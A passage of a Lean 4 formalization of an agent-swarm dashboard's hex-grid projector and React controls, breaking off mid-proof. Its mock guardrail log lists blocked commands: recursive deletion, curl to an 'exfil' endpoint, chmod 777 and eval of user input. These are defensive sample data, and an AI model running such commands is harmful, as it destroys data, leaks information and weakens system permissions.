import Mathlib

/-!
Verification of the Live State Synchronization & Spatial Visualization Layer
of the agent-swarm dashboard.

The development shallowly embeds the relevant source functions:
- `HexGrid` models `visualizer/scripts/HexGrid.gd` (Godot spatial projector);
  GDScript `Dictionary.get(key, default)` is modelled by `Option` fields with
  `Option.getD`, dictionary literals by association lists with `List.lookup`.
- `Dashboard` models the React dashboard: `lib/api.ts` (polling and command
  hooks), `lib/mock-data.ts`, `pages/Index.tsx`, `components/CitadelControls.tsx`,
  `components/SystemInterdicted.tsx`, `components/SovereignControls.tsx` and
  `components/CharacterCard.tsx`.
-/

namespace HexGrid

/-- Label colors used by `_add_floating_text` (`Color.AQUA`, `Color.YELLOW`,
`Color.GREEN_YELLOW` in the source). -/
inductive LabelColor
  | aqua
  | yellow
  | greenYellow
deriving DecidableEq

/-- A visual object spawned into the scene and tracked in `spawned_nodes`.
Positions are kept in axial hex coordinates `(q, r)`; the world-space
conversion `axial_to_world` is a fixed injective affine map and is not needed
by any placement claim. -/
inductive VisNode
  | hexTile (q r : Int)
  | building (q r : Int) (assetPath : String)
  | agentToken (q r : Int) (assetPath : String)
  | floatingText (q r : Int) (text : String) (color : LabelColor)
deriving DecidableEq

/-- An agent record from the `party` array of the polled state payload.
Every field is optional, mirroring GDScript `Dictionary` key access. -/
structure AgentInfo where
  id : Option String := none
  agentClass : Option String := none
  location : Option String := none
  current_action : Option String := none
deriving DecidableEq

/-- A repository ("country") record from the `repositories` array. -/
structure Repo where
  name : Option String := none
  swarm : Option (List String) := none
deriving DecidableEq

/-- The state dictionary consumed by `update_grid`. The projector only reads
the `party` and `repositories` keys; the payload also carries the system
status (and further dashboard-only keys), kept here to express that the
projection does not depend on them. -/
structure StateData where
  system_status : Option String := none
  party : Option (List AgentInfo) := none
  repositories : Option (List Repo) := none
deriving DecidableEq

/-- Constant `BUILDING_ASSET_TEMPLATES`. -/
def BUILDING_ASSET_TEMPLATES : List (String × String) :=
  [ ("blue", "res://addons/kaykit_medieval_hexagon_pack/Assets/gltf/buildings/blue/building_castle_blue.gltf"),
    ("red", "res://addons/kaykit_medieval_hexagon_pack/Assets/gltf/buildings/red/building_castle_red.gltf"),
    ("green", "res://addons/kaykit_medieval_hexagon_pack/Assets/gltf/buildings/green/building_castle_green.gltf"),
    ("yellow", "res://addons/kaykit_medieval_hexagon_pack/Assets/gltf/buildings/yellow/building_castle_yellow.gltf"),
    ("neutral", "res://addons/kaykit_medieval_hexagon_pack/Assets/gltf/buildings/neutral/building_tower_A_neutral.gltf") ]

/-- Constant `AGENT_ASSET_TEMPLATES`. -/
def AGENT_ASSET_TEMPLATES : List (String × String) :=
  [ ("ProductManager", "res://addons/kaykit_character_pack_adventures/Characters/gltf/Mage.glb"),
    ("Architect", "res://addons/kaykit_character_pack_adventures/Characters/gltf/Knight.glb"),
    ("Coder", "res://addons/kaykit_character_pack_adventures/Characters/gltf/Rogue.glb"),
    ("Reviewer", "res://addons/kaykit_character_pack_adventures/Characters/gltf/Barbarian.glb"),
    ("Deployer", "res://addons/kaykit_character_pack_adventures/Characters/gltf/Knight.glb"),
    ("Analyst", "res://addons/kaykit_character_pack_adventures/Characters/gltf/Mage.glb"),
    ("Security", "res://addons/kaykit_character_pack_adventures/Characters/gltf/Rogue_Hooded.glb"),
    ("Default", "res://addons/kaykit_character_pack_adventures/Characters/gltf/Barbarian.glb") ]

/-- Constant `COUNTRY_COLORS`. -/
def COUNTRY_COLORS : List (String × String) :=
  [ ("The Swarm Motherland", "blue"),
    ("The Core Empire", "red"),
    ("The Front-End Republic", "green"),
    ("The Security Kingdom", "yellow") ]

/-- `COUNTRY_COLORS.get(label_text, "neutral")`. -/
def country_color (label_text : String) : String :=
  (COUNTRY_COLORS.lookup label_text).getD "neutral"

/-- `BUILDING_ASSET_TEMPLATES.get(color, BUILDING_ASSET_TEMPLATES["neutral"])`.
The inner default is unreachable since `"neutral"` is a key of the table. -/
def building_asset (color : String) : String :=
  (BUILDING_ASSET_TEMPLATES.lookup color).getD
    ((BUILDING_ASSET_TEMPLATES.lookup "neutral").getD "")

/-- `AGENT_ASSET_TEMPLATES.get(agent_class, AGENT_ASSET_TEMPLATES["Default"])`. -/
def agent_asset (agentClass : String) : String :=
  (AGENT_ASSET_TEMPLATES.lookup agentClass).getD
    ((AGENT_ASSET_TEMPLATES.lookup "Default").getD "")

/-- GDScript `range(a, b)`: the integers of the half-open interval `[a, b)`. -/
def gdRange (a b : Int) : List Int :=
  (List.range (b - a).toNat).map (fun k => a + k)

/-- Nodes appended by `_add_floating_text`. -/
def add_floating_text (q r : Int) (text : String) (color : LabelColor) : VisNode :=
  .floatingText q r text color

/-- Nodes appended by `_spawn_hex`. -/
def spawn_hex (q r : Int) : VisNode := .hexTile q r

/-- Nodes appended by `_generate_base_grid`: the double loop over `q` and `r`
spawning the fixed background hex field. -/
def generate_base_grid (radius : Int) : List VisNode :=
  (gdRange (-radius - 2) (radius + 3)).flatMap (fun q =>
    let r1 := max (-radius - 2) (-q - (radius + 2))
    let r2 := min (radius + 2) (-q + (radius + 2))
    (gdRange r1 (r2 + 1)).map (fun r => spawn_hex q r))

/-- Nodes appended by `_spawn_building`: the castle/tower model keyed through
the territory-name palette, plus its aqua floating label. -/
def spawn_building (q r : Int) (label_text : String) : List VisNode :=
  let color := country_color label_text
  let b_path := building_asset color
  [.building q r b_path, add_floating_text q r label_text .aqua]

/-- The label color picked inside `_spawn_agent`: starts `Color.YELLOW` and
switches to `Color.GREEN_YELLOW` when the status text differs from
`"Standby"`, where the status is `agent_info.get("current_action", "Standby")`. -/
def agent_label_color (agent_info : AgentInfo) : LabelColor :=
  let status := agent_info.current_action.getD "Standby"
  if status ≠ "Standby" then .greenYellow else .yellow

/-- Nodes appended by `_spawn_agent`: the character token plus its floating
id/status label. The source also computes an unused `color` from the agent's
location; it affects no spawned node. -/
def spawn_agent (q r : Int) (agent_info : AgentInfo) : List VisNode :=
  let agentClass := agent_info.agentClass.getD "Default"
  let a_path := agent_asset agentClass
  let agent_id := agent_info.id.getD "Unknown"
  let status := agent_info.current_action.getD "Standby"
  let display_text := agent_id ++ "\n[" ++ status ++ "]"
  [.agentToken q r a_path, add_floating_text q r display_text (agent_label_color agent_info)]

/-- The agent lookup built by `update_grid` step 2: `agent_map[agent.get("id", "")] = agent`
over the party in order (later entries overwrite earlier ones), then
`agent_map.get(agent_id, …)`. -/
def agent_map_get (party : List AgentInfo) (agent_id : String) : Option AgentInfo :=
  party.foldl (fun acc a => if a.id.getD "" = agent_id then some a else acc) none

/-- Constant `repo_centers` of `update_grid`: the fixed predefined anchor list. -/
def repo_centers : List (Int × Int) := [(0, 0), (3, -1), (-3, 1), (0, 3)]

/-- Constant `agent_offsets` of `update_grid`: the fixed six-neighbor ring. -/
def agent_offsets : List (Int × Int) :=
  [(1, 0), (0, 1), (-1, 1), (-1, 0), (0, -1), (1, -1)]

/-- The inner loop of `update_grid` step 4: place the members of one
territory's `swarm` list, seat `j` at the anchor plus
`agent_offsets[j % agent_offsets.size()]`. -/
def project_agents (party : List AgentInfo) (center : Int × Int) :
    List String → Nat → List VisNode
  | [], _ => []
  | agent_id :: rest, j =>
    let offset := agent_offsets.getD (j % agent_offsets.length) (0, 0)
    let agent_info := (agent_map_get party agent_id).getD {}
    spawn_agent (center.1 + offset.1) (center.2 + offset.2) agent_info
      ++ project_agents party center rest (j + 1)

/-- The outer loop of `update_grid` step 3: territory `i` is anchored at
`repo_centers[i % repo_centers.size()]`, gets its building, then its agents. -/
def project_repos (party : List AgentInfo) : List Repo → Nat → List VisNode
  | [], _ => []
  | repo :: rest, i =>
    let center := repo_centers.getD (i % repo_centers.length) (0, 0)
    spawn_building center.1 center.2 (repo.name.getD "Unknown Territory")
      ++ project_agents party center (repo.swarm.getD []) 0
      ++ project_repos party rest (i + 1)

/-- The full list of nodes spawned by one `update_grid` pass (after the
initial `clear_grid`): background field, then buildings and agents. -/
def update_grid (state_data : StateData) : List VisNode :=
  generate_base_grid 3
    ++ project_repos (state_data.party.getD []) (state_data.repositories.getD []) 0

/-- The mutable scene state: the `spawned_nodes` bookkeeping array. -/
structure GridState where
  spawned_nodes : List VisNode
deriving DecidableEq

/-- `clear_grid`: frees every previously spawned node and empties the array. -/
def clear_grid (_st : GridState) : GridState :=
  { spawned_nodes := [] }

/-- The stateful effect of `update_grid` on the scene: clear, then append
this pass's nodes. -/
def update_grid_scene (st : GridState) (state_data : StateData) : GridState :=
  { spawned_nodes := (clear_grid st).spawned_nodes ++ update_grid state_data }

/-- Cells of the building nodes of a node list, in spawn order. -/
def buildingCells (nodes : List VisNode) : List (Int × Int) :=
  nodes.filterMap (fun n =>
    match n with
    | .building q r _ => some (q, r)
    | _ => none)

/-- Cells of the agent-token nodes of a node list, in spawn order. -/
def agentTokenCells (nodes : List VisNode) : List (Int × Int) :=
  nodes.filterMap (fun n =>
    match n with
    | .agentToken q r _ => some (q, r)
    | _ => none)

/-- The anchor cell assigned to the territory at index `i`, read off the
center list by index modulo list length. -/
def territory_anchor (i : Nat) : Int × Int :=
  repo_centers.getD (i % repo_centers.length) (0, 0)

/-- The cell assigned to the member at position `j` of a territory whose
anchor is `center`: the anchor plus the ring offset at index `j` modulo six. -/
def seat_cell (center : Int × Int) (j : Nat) : Int × Int :=
  let offset := agent_offsets.getD (j % agent_offsets.length) (0, 0)
  (center.1 + offset.1, center.2 + offset.2)

end HexGrid

namespace Dashboard

/-- The outcome of one `fetch` attempt as observed by the surrounding
`try`/`catch`: a parsed 2xx payload, a network-level failure, a non-2xx
response (the code throws on `!res.ok`), or a JSON decode failure. -/
inductive FetchOutcome (α : Type)
  | ok (payload : α)
  | transportError
  | httpError (code : Nat)
  | decodeError
deriving DecidableEq

/-- Budget record `daily_budget {max, spent, unit}`. Numbers are modelled as
rationals. -/
structure Budget where
  max : ℚ
  spent : ℚ
  unit : String
deriving DecidableEq

/-- Agent stats record `{hp, mana, success_rate}` of the dashboard payload. -/
structure DashAgentStats where
  hp : ℚ
  mana : ℚ
  success_rate : String
deriving DecidableEq

/-- A dashboard `Agent` record (field `class` is `agentClass` here). -/
structure DashAgent where
  id : String
  name : String
  agentClass : String
  stats : DashAgentStats
  current_action : String
  location : String
deriving DecidableEq

/-- A `Quest` record; `assigned_agent` is optional in the mock data. -/
structure Quest where
  id : String
  title : String
  stage : String
  difficulty : String
  assigned_agent : Option String := none
deriving DecidableEq

/-- A `GuardrailEntry` record. -/
structure GuardrailEntry where
  id : String
  timestamp : String
  blocked_command : String
  reason : String
  severity : String
deriving DecidableEq

/-- A `Repository` record as consumed by `CitadelControls`. -/
structure Repository where
  id : String
  name : String
  tasks_pending : Nat
deriving DecidableEq

/-- The `GameState` snapshot returned by `/api/v1/game-state`. -/
structure GameState where
  system_status : String
  daily_budget : Budget
  party : List DashAgent
  active_quests : List Quest
  guardrail_log : List GuardrailEntry
  repositories : Option (List Repository) := none
deriving DecidableEq

/-- A semantic triple shown in the node detail panel. -/
structure Triple where
  subject : String
  predicate : String
  object : String
deriving DecidableEq

/-- Graph node payload `data`. -/
structure NodeData where
  id : String
  label : String
  nodeType : String
  active : Option Bool := none
  triples : List Triple := []
deriving DecidableEq

/-- Graph edge payload `data`. -/
structure EdgeData where
  id : String
  source : String
  target : String
  label : String
deriving DecidableEq

/-- A node wrapper `{data: …}` as sent by `/api/v1/graph-nodes`. -/
structure GraphNode where
  data : NodeData
deriving DecidableEq

/-- An edge wrapper `{data: …}`. -/
structure GraphEdge where
  data : EdgeData
deriving DecidableEq

/-- The `elements` object of the graph payload. -/
structure GraphElements where
  nodes : List GraphNode
  edges : List GraphEdge
deriving DecidableEq

/-- The `GraphData` payload of `/api/v1/graph-nodes`. -/
structure GraphData where
  elements : GraphElements
deriving DecidableEq

/-- `mockGameState` from `lib/mock-data.ts`. -/
def mockGameState : GameState :=
  { system_status := "OPERATIONAL"
    daily_budget := { max := 10, spent := 2.5, unit := "USD" }
    party :=
      [ { id := "pm-01", name := "Jules-PM", agentClass := "Bard",
          stats := { hp := 100, mana := 80, success_rate := "95%" },
          current_action := "Translating Trello scroll to OpenSpec...",
          location := "Requirements Hall" },
        { id := "arch-01", name := "Merlin-Arch", agentClass := "Wizard",
          stats := { hp := 90, mana := 60, success_rate := "88%" },
          current_action := "Generating system architecture diagram...",
          location := "Design Sanctum" },
        { id := "dev-01", name := "Blade-Dev", agentClass := "Warrior",
          stats := { hp := 75, mana := 45, success_rate := "92%" },
          current_action := "Implementing FastAPI endpoint /api/v1/agents...",
          location := "Code Forge" },
        { id := "rev-01", name := "Aegis-Rev", agentClass := "Paladin",
          stats := { hp := 100, mana := 70, success_rate := "99%" },
          current_action := "Reviewing PR #42 — security audit pass...",
          location := "Review Chamber" } ]
    active_quests :=
      [ { id := "q1", title := "FastAPI Refactor", stage := "Design",
          difficulty := "Hard", assigned_agent := some "Merlin-Arch" },
        { id := "q2", title := "Auth Module", stage := "In Progress",
          difficulty := "Legendary", assigned_agent := some "Blade-Dev" },
        { id := "q3", title := "Dashboard UI", stage := "Todo",
          difficulty := "Medium", assigned_agent := some "Blade-Dev" },
        { id := "q4", title := "User Stories Sprint 4", stage := "Requirements",
          difficulty := "Easy", assigned_agent := some "Jules-PM" },
        { id := "q5", title := "Code Review Pipeline", stage := "In Progress",
          difficulty := "Medium", assigned_agent := some "Aegis-Rev" },
        { id := "q6", title := "API Rate Limiting", stage := "Todo",
          difficulty := "Hard" } ]
    guardrail_log :=
      [ { id := "g1", timestamp := "14:32:01",
          blocked_command := "rm -rf /var/data/*",
          reason := "NIST AC-6: Destructive filesystem operation blocked",
          severity := "CRITICAL" },
        { id := "g2", timestamp := "14:31:45",
          blocked_command := "curl external-api.io/exfil",
          reason := "NIST SC-7: Unauthorized outbound connection",
          severity := "HIGH" },
        { id := "g3", timestamp := "14:30:12",
          blocked_command := "sudo chmod 777 /etc/config",
          reason := "NIST AC-3: Permission escalation denied",
          severity := "HIGH" },
        { id := "g4", timestamp := "14:28:55",
          blocked_command := "eval(user_input)",
          reason := "NIST SI-10: Unsafe code execution blocked",
          severity := "MEDIUM" } ] }

/-- `mockGraphData` from `lib/mock-data.ts`. -/
def mockGraphData : GraphData :=
  { elements :=
    { nodes :=
        [ ⟨{ id := "n1", label := "FastAPI", nodeType := "framework", active := some true,
             triples := [⟨"FastAPI", "is_a", "Web Framework"⟩, ⟨"FastAPI", "uses", "Python 3.11"⟩] }⟩,
          ⟨{ id := "n2", label := "Auth Module", nodeType := "module", active := some true,
             triples := [⟨"Auth Module", "implements", "JWT Auth"⟩] }⟩,
          ⟨{ id := "n3", label := "PostgreSQL", nodeType := "database",
             triples := [⟨"PostgreSQL", "stores", "Agent State"⟩] }⟩,
          ⟨{ id := "n4", label := "Agent Swarm", nodeType := "system", active := some true,
             triples := [⟨"Agent Swarm", "orchestrates", "4 Agents"⟩] }⟩,
          ⟨{ id := "n5", label := "Trello API", nodeType := "integration",
             triples := [⟨"Trello API", "provides", "Quest Data"⟩] }⟩,
          ⟨{ id := "n6", label := "NIST Framework", nodeType := "security",
             triples := [⟨"NIST", "enforces", "Guardrails"⟩] }⟩,
          ⟨{ id := "n7", label := "Knowledge Graph", nodeType := "system",
             triples := [⟨"Knowledge Graph", "contains", "Semantic Triples"⟩] }⟩,
          ⟨{ id := "n8", label := "Redis Cache", nodeType := "infrastructure",
             triples := [⟨"Redis", "caches", "Session Data"⟩] }⟩ ]
      edges :=
        [ ⟨{ id := "e1", source := "n1", target := "n2", label := "authenticates" }⟩,
          ⟨{ id := "e2", source := "n1", target := "n3", label := "persists" }⟩,
          ⟨{ id := "e3", source := "n4", target := "n1", label := "communicates" }⟩,
          ⟨{ id := "e4", source := "n4", target := "n5", label := "syncs" }⟩,
          ⟨{ id := "e5", source := "n6", target := "n4", label := "governs" }⟩,
          ⟨{ id := "e6", source := "n4", target := "n7", label := "populates" }⟩,
          ⟨{ id := "e7", source := "n7", target := "n3", label := "stored_in" }⟩,
          ⟨{ id := "e8", source := "n1", target := "n8", label := "caches_via" }⟩ ] } }

/-- `fetchWithFallback` from `lib/api.ts`: any failure (network, non-2xx,
decode) is caught and the baked-in fallback value is returned; the function
itself never rejects. -/
def fetchWithFallback {α : Type} (outcome : FetchOutcome α) (fallback : α) : α :=
  match outcome with
  | .ok payload => payload
  | .transportError => fallback
  | .httpError _ => fallback
  | .decodeError => fallback

/-- The observable result of one react-query tick: the cached data and the
`isError` flag, which is set exactly when the query function rejected. -/
structure QueryResult (α : Type) where
  data : Option α
  isError : Bool
deriving DecidableEq

/-- One react-query tick: run the query function; a resolved value becomes
`data` with `isError = false`, a rejection sets `isError = true`. -/
def useQueryTick {α : Type} (queryFn : Except Unit α) : QueryResult α :=
  match queryFn with
  | .ok a => { data := some a, isError := false }
  | .error _ => { data := none, isError := true }

/-- The `useGameState` query function:
`() => fetchWithFallback("/game-state", mockGameState)`. It always resolves. -/
def gameStateQueryFn (outcome : FetchOutcome GameState) : Except Unit GameState :=
  .ok (fetchWithFallback outcome mockGameState)

/-- The `useGraphData` query function:
`() => fetchWithFallback("/graph-nodes", mockGraphData)`. It always resolves. -/
def graphDataQueryFn (outcome : FetchOutcome GraphData) : Except Unit GraphData :=
  .ok (fetchWithFallback outcome mockGraphData)

/-- `Index.tsx`: `const isConnected = !gsError && !gdError`. -/
def isConnected (gs : QueryResult GameState) (gd : QueryResult GraphData) : Bool :=
  !gs.isError && !gd.isError

/-- The `/api/v1/halt` response body `{status: …}`. -/
structure HaltResponse where
  status : String
deriving DecidableEq

/-- The `mutationFn` of `useHaltSystem`: a successful round-trip returns the
server payload; any thrown error is caught and the mock `{status: "HALTED"}`
is returned, so the mutation always succeeds. -/
def halt_mutationFn (transport : FetchOutcome HaltResponse) : HaltResponse :=
  match transport with
  | .ok payload => payload
  | .transportError => { status := "HALTED" }
  | .httpError _ => { status := "HALTED" }
  | .decodeError => { status := "HALTED" }

/-- The `onSuccess` callback of `useHaltSystem`: overwrite the cached
game-state's `system_status` with `"HALTED"` when a cache entry exists. The
mutation result payload is not consulted. -/
def halt_onSuccess (cache : Option GameState) : Option GameState :=
  cache.map (fun old => { old with system_status := "HALTED" })

/-- One synchronous `haltMutation.mutate()` step: run the mutation function on
the given transport outcome, then apply `onSuccess` (the mutation never
fails), yielding the mutation result and the updated cache. -/
def useHaltSystem_mutate (transport : FetchOutcome HaltResponse)
    (cache : Option GameState) : HaltResponse × Option GameState :=
  (halt_mutationFn transport, halt_onSuccess cache)

/-- A toast notice raised through `sonner`. -/
inductive Toast
  | errorToast (msg : String)
  | successToast (msg : String)
deriving DecidableEq

/-- The local component state of `CitadelControls`: the three controlled
inputs, each initialized to the empty string (an unset select stays `""`). -/
structure CitadelState where
  selectedAgent : String := ""
  selectedRepo : String := ""
  missionTask : String := ""
deriving DecidableEq

/-- The JSON body of `POST /api/v1/mission/assign`. -/
structure MissionPayload where
  agent_id : String
  repo_id : String
  task : String
deriving DecidableEq

/-- The synchronous part of `handleAssign`: if any field is falsy (empty), show
the validation toast and return without touching state or network; otherwise
hand the payload to `assignMutation.mutate`. The result is the (unchanged)
component state, the toast raised synchronously, and the issued request. -/
def handleAssign (st : CitadelState) :
    CitadelState × Option Toast × Option MissionPayload :=
  if st.selectedAgent = "" ∨ st.selectedRepo = "" ∨ st.missionTask = "" then
    (st, some (.errorToast "Please fill in all fields."), none)
  else
    (st, none,
      some { agent_id := st.selectedAgent, repo_id := st.selectedRepo,
             task := st.missionTask })

/-- The `onError` callback of the assign mutation: the transport-failure
toast, distinct from the validation toast. -/
def assignMission_onError_toast : Toast :=
  .errorToast "Failed to assign mission."

/-- The root element of `SystemInterdicted`, as determined by its class list
`fixed inset-0 z-50 … backdrop-blur-md`: a full-viewport fixed overlay at
stacking level 50 whose root does not opt out of pointer events (only its
inner scanline/glow layers carry `pointer-events-none`). -/
structure OverlayProps where
  fullScreen : Bool
  zIndex : Nat
  pointerEventsNone : Bool
deriving DecidableEq

/-- The `SystemInterdicted` interdiction overlay. -/
def systemInterdicted : OverlayProps :=
  { fullScreen := true, zIndex := 50, pointerEventsNone := false }

/-- The halt button of `SovereignControls`: `disabled={isHalting}`. -/
structure HaltButton where
  disabled : Bool
deriving DecidableEq

/-- The parts of the rendered `Index` page relevant to halt precedence: the
conditionally rendered interdiction overlay and the kill-switch button. -/
structure IndexView where
  interdictionOverlay : Option OverlayProps
  haltButton : HaltButton
deriving DecidableEq

/-- `Index.tsx`: `const isHalted = gameState?.system_status === "HALTED"`. -/
def isHaltedOf (gameState : Option GameState) : Bool :=
  match gameState with
  | some g => g.system_status == "HALTED"
  | none => false

/-- The render of `Index`: `{isHalted && <SystemInterdicted />}` mounts the
overlay exactly when the cached status is `HALTED`; the footer's halt button
is disabled while the mutation is pending. -/
def renderIndex (gameState : Option GameState) (isHalting : Bool) : IndexView :=
  { interdictionOverlay := if isHaltedOf gameState then some systemInterdicted else none
    haltButton := { disabled := isHalting } }

/-- Standard pointer-event semantics for the rendered page: a mounted
full-viewport overlay whose root accepts pointer events intercepts every
click aimed at content stacked beneath it (the footer is unpositioned, so the
`z-50` fixed overlay stacks above it). -/
def overlayBlocksPointer (view : IndexView) : Bool :=
  match view.interdictionOverlay with
  | some o => o.fullScreen && !o.pointerEventsNone
  | none => false

/-- The one command the kill switch can issue. -/
inductive Command
  | halt
deriving DecidableEq

/-- A user's attempt to activate the kill switch on the rendered page: the
click is swallowed by a blocking overlay if one is mounted, ignored if the
button is disabled, and dispatches `onHalt` (the halt mutation) otherwise. -/
def clickHaltControl (view : IndexView) : Option Command :=
  if overlayBlocksPointer view then none
  else if view.haltButton.disabled then none
  else some .halt

/-- A cytoscape element as built by `initGraph`: a node or edge payload tagged
with its `group`. -/
inductive CyElemData
  | node (d : NodeData)
  | edge (d : EdgeData)
deriving DecidableEq

/-- The `group` tag of a cytoscape element. -/
inductive CyGroup
  | nodes
  | edges
deriving DecidableEq

/-- One element of the `elements` array passed to `cytoscape(…)`. -/
structure CyElement where
  data : CyElemData
  group : CyGroup
deriving DecidableEq

/-- The cytoscape instance owned by `cyRef`, keyed by the elements it was
constructed from. -/
structure CyInstance where
  elements : List CyElement
deriving DecidableEq

/-- The `elements` array of the `cytoscape(…)` call in `initGraph`: all nodes
of the current payload, then all edges. -/
def cyElements (g : GraphData) : List CyElement :=
  g.elements.nodes.map (fun n => { data := .node n.data, group := .nodes })
    ++ g.elements.edges.map (fun e => { data := .edge e.data, group := .edges })

/-- A fresh cytoscape instance built from the current graph payload. -/
def cytoscapeFromData (g : GraphData) : CyInstance :=
  { elements := cyElements g }

/-- `KnowledgeGraph.initGraph`: with no payload it returns early leaving the
ref untouched; otherwise it destroys any previous instance and replaces the
ref with an instance built solely from the current payload. -/
def initGraph (cyRef : Option CyInstance) (graphData : Option GraphData) :
    Option CyInstance :=
  match graphData with
  | none => cyRef
  | some g => some (cytoscapeFromData g)

/-- `CharacterCard`: `const hpPercent = agent.stats.hp` — emitted as the HP
bar's CSS width percentage with no clamping. -/
def hpPercent (agent : DashAgent) : ℚ :=
  agent.stats.hp

/-- `CharacterCard`: `const manaPercent = (agent.stats.mana / 100) * 100` —
emitted as the mana bar's CSS width percentage with no clamping. -/
def manaPercent (agent : DashAgent) : ℚ :=
  agent.stats.mana / 100 * 100

end Dashboard

/-- An agent record with out-of-range vitals, as the backend may deliver:
hp above the display range and negative mana. -/
def overchargedAgent : Dashboard.DashAgent :=
  { id := "ovr-01", name := "Overdrive", agentClass := "Warrior",
    stats := { hp := 150, mana := -20, success_rate := "50%" },
    current_action := "", location := "Code Forge" }

/-- An agent record with in-range vitals (the first mock party member). -/
def inRangeAgent : Dashboard.DashAgent :=
  { id := "pm-01", name := "Jules-PM", agentClass := "Bard",
    stats := { hp := 100, mana := 80, success_rate := "95%" },
    current_action := "Translating Trello scroll to OpenSpec...",
    location := "Requirements Hall" }

/-- A projector agent record whose `current_action` key is present but holds
the empty string. -/
def emptyActionAgent : HexGrid.AgentInfo :=
  { id := some "dev-09", agentClass := some "Coder",
    location := some "The Core Empire", current_action := some "" }

/-- A one-agent party used to instantiate theorems on a concrete projector
input. -/
def sampleParty : List HexGrid.AgentInfo :=
  [{ id := some "dev-01", agentClass := some "Coder",
     location := some "The Core Empire", current_action := some "Standby" }]

/-- The repositories of the sample projector input. -/
def sampleRepos : List HexGrid.Repo :=
  [{ name := some "The Core Empire", swarm := some ["dev-01"] }]

namespace HexGrid

lemma buildingCells_append (l₁ l₂ : List VisNode) :
    buildingCells (l₁ ++ l₂) = buildingCells l₁ ++ buildingCells l₂ := by
  simp [buildingCells, List.filterMap_append]

lemma agentTokenCells_append (l₁ l₂ : List VisNode) :
    agentTokenCells (l₁ ++ l₂) = agentTokenCells l₁ ++ agentTokenCells l₂ := by
  simp [agentTokenCells, List.filterMap_append]

lemma mem_generate_base_grid {radius : Int} {n : VisNode}
    (hn : n ∈ generate_base_grid radius) : ∃ q r, n = .hexTile q r := by
  rw [generate_base_grid] at hn
  simp only [List.mem_flatMap, List.mem_map] at hn
  obtain ⟨q, -, r, -, rfl⟩ := hn
  exact ⟨q, r, rfl⟩

lemma buildingCells_generate_base_grid (radius : Int) :
    buildingCells (generate_base_grid radius) = [] := by
  rw [buildingCells, List.filterMap_eq_nil_iff]
  intro n hn
  obtain ⟨q, r, rfl⟩ := mem_generate_base_grid hn
  rfl

lemma agentTokenCells_generate_base_grid (radius : Int) :
    agentTokenCells (generate_base_grid radius) = [] := by
  rw [agentTokenCells, List.filterMap_eq_nil_iff]
  intro n hn
  obtain ⟨q, r, rfl⟩ := mem_generate_base_grid hn
  rfl

lemma buildingCells_spawn_building (q r : Int) (label_text : String) :
    buildingCells (spawn_building q r label_text) = [(q, r)] := rfl

lemma agentTokenCells_spawn_building (q r : Int) (label_text : String) :
    agentTokenCells (spawn_building q r label_text) = [] := rfl

lemma buildingCells_spawn_agent (q r : Int) (agent_info : AgentInfo) :
    buildingCells (spawn_agent q r agent_info) = [] := rfl

lemma agentTokenCells_spawn_agent (q r : Int) (agent_info : AgentInfo) :
    agentTokenCells (spawn_agent q r agent_info) = [(q, r)] := rfl

lemma agentTokenCells_project_agents (party : List AgentInfo) (center : Int × Int)
    (mems : List String) (j : Nat) :
    agentTokenCells (project_agents party center mems j) =
      (List.range mems.length).map (fun k => seat_cell center (j + k)) := by
  induction mems generalizing j with
  | nil => rfl
  | cons aid rest ih =>
      have hfun : ((fun k => seat_cell center (j + k)) ∘ Nat.succ)
          = fun k => seat_cell center (j + 1 + k) := by
        funext k
        simp only [Function.comp_apply]
        congr 1
        omega
      rw [project_agents, agentTokenCells_append, agentTokenCells_spawn_agent,
        ih (j + 1), List.length_cons, List.range_succ_eq_map, List.map_cons,
        List.map_map, hfun]
      simp [seat_cell]

lemma buildingCells_project_agents (party : List AgentInfo) (center : Int × Int)
    (mems : List String) (j : Nat) :
    buildingCells (project_agents party center mems j) = [] := by
  induction mems generalizing j with
  | nil => rfl
  | cons aid rest ih =>
      rw [project_agents, buildingCells_append, buildingCells_spawn_agent,
        List.nil_append, ih (j + 1)]

lemma buildingCells_project_repos (party : List AgentInfo) (repos : List Repo)
    (i : Nat) :
    buildingCells (project_repos party repos i) =
      (List.range repos.length).map (fun k => territory_anchor (i + k)) := by
  induction repos generalizing i with
  | nil => rfl
  | cons repo rest ih =>
      have hfun : ((fun k => territory_anchor (i + k)) ∘ Nat.succ)
          = fun k => territory_anchor (i + 1 + k) := by
        funext k
        simp only [Function.comp_apply]
        congr 1
        omega
      simp only [project_repos, buildingCells_append, buildingCells_spawn_building,
        buildingCells_project_agents, List.append_nil, ih (i + 1),
        List.length_cons, List.range_succ_eq_map, List.map_cons, List.map_map, hfun]
      simp [territory_anchor]

lemma agentTokenCells_project_repos_length (party : List AgentInfo)
    (repos : List Repo) (i : Nat) :
    (agentTokenCells (project_repos party repos i)).length =
      (repos.map (fun repo => (repo.swarm.getD []).length)).sum := by
  induction repos generalizing i with
  | nil => rfl
  | cons repo rest ih =>
      simp only [project_repos, agentTokenCells_append, agentTokenCells_spawn_building,
        agentTokenCells_project_agents, List.nil_append, List.length_append,
        ih (i + 1), List.map_cons, List.sum_cons, List.length_map, List.length_range]

/-- Anchors of the buildings spawned by one full `update_grid` pass: territory
`i` stands exactly at `territory_anchor i`. -/
lemma buildingCells_update_grid (state_data : StateData) :
    buildingCells (update_grid state_data) =
      (List.range (state_data.repositories.getD []).length).map territory_anchor := by
  rw [update_grid, buildingCells_append, buildingCells_generate_base_grid,
    List.nil_append, buildingCells_project_repos]
  simp

end HexGrid

/-- C1: Spatial projection placement cycles by modulo on overflow: in every
`update_grid` pass the territory at index `i` is anchored at entry `i % 4` of
the fixed four-entry center list (so territory index 4 — the fifth — shares
the anchor of territory index 0), and within any territory the member at
position `j` is seated at the ring offset of index `j % 6` (so seat index 6 —
the seventh — shares the offset of seat index 0). -/
theorem update_grid_modulo_cycling :
    (∀ s : HexGrid.StateData,
        HexGrid.buildingCells (HexGrid.update_grid s) =
          (List.range (s.repositories.getD []).length).map HexGrid.territory_anchor)
    ∧ (∀ (party : List HexGrid.AgentInfo) (center : Int × Int) (mems : List String),
        HexGrid.agentTokenCells (HexGrid.project_agents party center mems 0) =
          (List.range mems.length).map (HexGrid.seat_cell center))
    ∧ (∀ i : Nat,
        HexGrid.territory_anchor (i + HexGrid.repo_centers.length) =
          HexGrid.territory_anchor i)
    ∧ (∀ (center : Int × Int) (j : Nat),
        HexGrid.seat_cell center (j + HexGrid.agent_offsets.length) =
          HexGrid.seat_cell center j)
    ∧ HexGrid.repo_centers.length = 4 ∧ HexGrid.agent_offsets.length = 6 := by
  refine ⟨HexGrid.buildingCells_update_grid, fun party center mems => ?_,
